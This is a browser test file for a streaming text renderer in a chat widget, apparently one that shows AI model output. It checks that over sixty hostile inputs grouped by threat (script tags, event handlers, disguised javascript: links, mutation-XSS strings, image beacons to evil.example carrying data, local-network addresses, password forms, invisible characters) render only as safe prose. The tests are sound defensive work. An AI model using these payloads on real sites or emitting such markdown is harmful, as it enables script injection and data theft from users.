import { expect } from '@open-wc/testing';
import { textOptions } from '../test-support/text.js';
import { createTextRenderer } from './text-renderer.js';
import { visibleText } from './visible-text.js';

/** What an attacker makes a model write, by row of the threat table (T1–T17), and what may come of it: nothing but prose. */
const hostile: Readonly<Record<string, readonly string[]>> = {
  'T1 script and handlers': [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '[x](javascript:alert(1))',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x][r]\n\n[r]: javascript:alert(1)',
    '<javascript:alert(1)>',
    '| [x](javascript:alert(1)) |\n|---|\n| <b onclick=alert(1)> |',
    '# [x](javascript:alert(1)) <i onmouseover=alert(1)>',
    '[![a](javascript:alert(1))](javascript:alert(2))',
    '![x" onerror="alert(1)](y)',
    '[a](https://x.example/" onmouseover="alert\\(1\\))',
  ],
  'T2 hidden schemes': [
    '[x](java&#x0A;script:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](javascript&colon;alert(1))',
    '[x](<java\tscript:alert(1)>)',
    '[x](\u0001javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](%6Aavascript:alert(1))',
    '[x](ｊavascript:alert(1))',
    '[x](javascript:alert(1)',
  ],
  'T3 raw HTML in every block': [
    '- <img src=x onerror=alert(1)>\n  - <script>x</script>',
    '> <iframe src="https://evil.example"></iframe>',
    '**<script>alert(1)**</script>',
    '<script>\n\nalert(1)\n\n</script>',
    '<!-- --><script>alert(1)</script>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?php <img src=x onerror=alert(1)> ?>',
    '<style>\n*{color:red}\n',
    '<a\nhref="javascript:alert(1)"\n>x</a>',
    '<pre><img src=x onerror=alert(1)',
    '<pre>&lt;img src=x onerror=alert(1)&gt; <code><b>',
    '`a` <xmp><script>alert(1)</script>',
  ],
  'T4 mutation': [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">',
    '> '.repeat(300) + '<img src=x onerror=alert(1)>',
  ],
  'T5 double decoding': [
    '&lt;img src=x onerror=alert(1)&gt;',
    '&amp;lt;script&amp;gt;alert(1)',
    '\\u003cscript\\u003e',
    '%3Cscript%3Ealert(1)%3C/script%3E',
  ],
  'T6 clobbering': [
    '<a id=location name=location href=x>',
    '<form id=document><input name=cookie>',
    '# __proto__\n\n# constructor',
    '[__proto__]\n\n[__proto__]: /a',
    '[constructor][]\n\n[toString]: /b',
  ],
  'T7 shadow roots and custom elements': [
    '<div><template shadowrootmode=open><script>alert(1)</script></template></div>',
    '<slot name=x></slot><p part=message slot=x>',
    '<aisle-chat gateway="https://evil.example"></aisle-chat>',
    '<aisle-product-card></aisle-product-card>',
  ],
  'T8 page frameworks': [
    '{{constructor.constructor("alert(1)")()}}',
    '<b x-init="alert(1)" v-html="x" hx-get="/x" ng-app data-method="delete">',
    '<i is="x-y">',
  ],
  'T9 pictures from elsewhere': [
    '![x](https://evil.example/p.gif?d=secret)',
    '![x][i]\n\n[i]: https://evil.example/p.gif',
    '![x](//evil.example/p.gif)',
    '![x](https:\\\\evil.example\\p.gif)',
    '![x](https://shop.example@evil.example/p.gif)',
    '![x](&#104;ttps://evil.example/p.gif)',
    '<https://shop.example@evil.example/>',
  ],
  'T10 pictures from here': [
    '![x](/logout)',
    '![x](/cart/add?id=1&q=99)',
    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  ],
  'T11 the local network': [
    '[x](https://192.168.0.1/)',
    '[x](https://169.254.169.254/latest)',
    '![x](http://localhost:8080/)',
    '<https://127.1/>',
    '[x](https://[::1]/)',
  ],
  'T12 requests without a picture': [
    '<img srcset="https://evil.example/a 1x">',
    '<picture><source srcset=https://evil.example/a></picture>',
    '<video poster=https://evil.example/a></video>',
    '<table background=https://evil.example/a><td>',
    '<link rel=dns-prefetch href=//evil.example>',
    '<a href="/" ping="https://evil.example/a" attributionsrc>x</a>',
  ],
  'T13 styles': [
    '<style>@import "https://evil.example/a.css"</style>',
    '<p style="position:fixed;inset:0;background:url(//evil.example)">',
    '<b style="expression(alert(1))">',
  ],
  'T14 forms': [
    '<form action=https://evil.example><input type=password><button>',
    '<button popovertarget=x popover autofocus accesskey=a>x',
    '<dialog open>x</dialog><label for=composer>',
    '- [x] <input type=image src=/logout form=f>',
  ],
  'T15 another host': ['[shop.example](https://evil.example/)', '[https://shop.example/pay](https://evil.example/pay)'],
  'T16 what cannot be seen': [
    'a\u202egpj.exe\u202c',
    '\u2066\u2066\u2066a',
    'pay\u200bpal',
    `hi\u{e0041}\u{e0042}\u{e007f}`,
    `x${'\ufe01'.repeat(9)}`,
  ],
  'T17 marks and long words': [`Z${'\u0335'.repeat(400)}`, 'W'.repeat(600), '﷽'.repeat(30)],
};

const allowedTags = new Set(
  'a blockquote br code del div em h3 hr input label li ol p pre span strong table tbody td th thead tr ul'.split(' '),
);
const allowedAttributes: Readonly<Record<string, readonly string[]>> = {
  a: ['href', 'target', 'rel'],
  div: ['class', 'tabindex'],
  input: ['checked', 'disabled', 'type'],
  li: ['class'],
  ol: ['start'],
  p: ['class'],
  pre: ['tabindex'],
  span: ['class', 'aria-hidden'],
  td: ['align'],
  th: ['align'],
};

function expectProse(container: Element, source: string): void {
  for (const element of container.querySelectorAll('*')) {
    const name = element.localName;
    if (!allowedTags.has(name) || element.namespaceURI !== 'http://www.w3.org/1999/xhtml')
      expect.fail(`<${name}> from ${source}`);
    for (const attribute of element.getAttributeNames()) {
      if (!(allowedAttributes[name] ?? []).includes(attribute)) expect.fail(`<${name} ${attribute}> from ${source}`);
    }
    if (element instanceof HTMLAnchorElement) expectSafeLink(element, source);
    if (element instanceof HTMLInputElement)
      expect(element.type === 'checkbox' && element.disabled, source).to.equal(true);
  }
}

function expectSafeLink(link: HTMLAnchorElement, source: string): void {
  const local = link.origin === location.origin;
  if (!local && link.protocol !== 'https:' && link.protocol !== 'mailto:' && link.protocol !== 'tel:')
    expect.fail(`${link.href} from ${source}`);
  if (/^(?:127|10|192\.168|169\.254)\.|localhost|\[/.test(link.hostname) && !local)
    expect.fail(`${link.href} from ${source}`);
  if (link.protocol === 'https:' && !local) {
    expect(link.rel, source).to.equal('noopener noreferrer nofollow ugc');
    expect(link.textContent, source).to.contain(link.host.replace(/^www\./, ''));
  }
}

let container: HTMLElement;

beforeEach(() => {
  container = document.createElement('div');
  document.body.append(container);
});

afterEach(() => {
  container.remove();
});

describe('hostile text', () => {
  for (const [threat, texts] of Object.entries(hostile)) {
    describe(threat, () => {
      for (const text of texts) {
        it(`is prose at every prefix: ${JSON.stringify(text.slice(0, 70))}`, () => {
          const streamed = document.createElement('div');
          const renderer = createTextRenderer(streamed, textOptions);
          const step = Math.max(1, Math.floor(text.length / 120));
          for (let end = 1; end <= text.length; end += step) {
            const prefix = text.slice(0, end);
            for (const state of ['open', 'done'] as const) {
              const whole = document.createElement('div');
              createTextRenderer(whole, textOptions).update(prefix, state);
              expectProse(whole, `${state} ${prefix}`);
            }
            renderer.update(prefix, 'done');
            expectProse(streamed, `streamed ${prefix}`);
          }
        });

        it(`loads and runs nothing: ${JSON.stringify(text.slice(0, 70))}`, async () => {
          const ran: unknown[] = [];
          const alertBefore = window.alert;
          window.alert = (value) => ran.push(value);
          try {
            createTextRenderer(container, textOptions).update(text, 'done');
            for (const element of container.querySelectorAll<HTMLElement>('*'))
              element.dispatchEvent(new MouseEvent('mouseover'));
            await new Promise((resolve) => setTimeout(resolve, 0));
            expect(ran).to.deep.equal([]);
            expect(
              performance.getEntriesByType('resource').filter(({ name }) => name.includes('evil.example')),
            ).to.deep.equal([]);
          } finally {
            window.alert = alertBefore;
          }
        });
      }
    });
  }

  it('has more than sixty inputs', () => {
    expect(Object.values(hostile).flat().length).to.be.above(60);
  });

  it('leaves prototypes as they are', () => {
    createTextRenderer(container, textOptions).update('[__proto__]: /x\n\n[a][__proto__] [constructor]', 'done');
    expect(Object.keys(Object.prototype)).to.deep.equal([]);
    expect(({} as Record<string, unknown>)['href']).to.equal(undefined);
  });

  it('keeps its words', () => {
    for (const text of ['<img src=x onerror=alert(1)>', '{{7*7}}', 'a <b>bold</b> word']) {
      createTextRenderer(container, textOptions).update(text, 'done');
      expect(container.textContent).to.equal(visibleText(text));
    }
  });
});
